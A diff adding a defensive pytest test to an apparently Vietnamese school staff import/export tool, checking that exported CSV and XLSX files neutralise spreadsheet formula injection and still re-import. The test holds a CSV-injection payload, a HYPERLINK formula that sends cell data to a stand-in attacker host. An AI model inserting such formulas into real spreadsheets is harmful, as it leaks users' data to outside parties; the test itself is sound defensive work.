@@ -348,3 +348,35 @@ def test_moet_ids_with_a_2_digit_province_import_with_warnings(db: str, tmp_path
     clean = run("import", path, "--school", SCHOOL)
     assert clean.exit_code == 0, clean.output
     assert "0 new, 0 updated, 10 unchanged" in clean.stdout
+
+
+def test_exports_are_inert_and_still_reimport(db: str, tmp_path: Path) -> None:
+    """Issue 12: a staff position beginning with = and phones beginning with + stay text
+    in both formats (XLSX string cells, CSV cells behind a quote), and the files still
+    re-import unchanged."""
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    staff = FIXTURES / f"{SCHOOL}-staff.xlsx"
+    assert run("import", staff, "--school", SCHOOL, "--kind", "staff").exit_code == 0
+    with psycopg.connect(db, autocommit=True) as conn:
+        conn.execute("update staff set position = %s where code = %s",
+                     (formula, f"{SCHOOL}-gv-CB001"))
+    for suffix in (".csv", ".xlsx"):
+        out = tmp_path / f"staff{suffix}"
+        assert run("export", out, "--school", SCHOOL, "--kind", "staff").exit_code == 0
+        if suffix == ".csv":
+            rows = list(csv.reader(out.open(encoding="utf-8-sig", newline="")))
+            position, phone = rows[0].index("Chức vụ"), rows[0].index("Điện thoại")
+            assert rows[1][position] == "'" + formula
+            assert all(r[phone].startswith("'+84") for r in rows[1:])
+        else:
+            sheet = load_workbook(out).active
+            assert sheet is not None
+            cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
+            assert len(cells) == 1 and cells[0].data_type == "s"
+            assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+        again = run("import", out, "--school", SCHOOL, "--kind", "staff")
+        assert again.exit_code == 0, again.output
+        assert "0 new, 0 updated, 20 unchanged" in again.stdout, again.output
+    assert count(db, "select count(*) from staff where position like '=HYPERLINK%'") == 1
